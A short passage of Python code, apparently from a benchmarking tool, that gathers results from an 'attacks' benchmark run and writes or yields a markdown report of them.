    outcomes: list[Outcome] = []
    info: dict[str, Any] = {"rss_end_mb": 0.0}
    yield from run_attacks(runs, only, outcomes, info)
    command = f"tenglong bench attacks --runs {runs}" + (f" --out {out}" if out else "")
    text = markdown(outcomes, info, runs, command)
    if out:
        Path(out).write_text(text, encoding="utf-8")
        yield f"wrote {out}"
    else:
        yield text
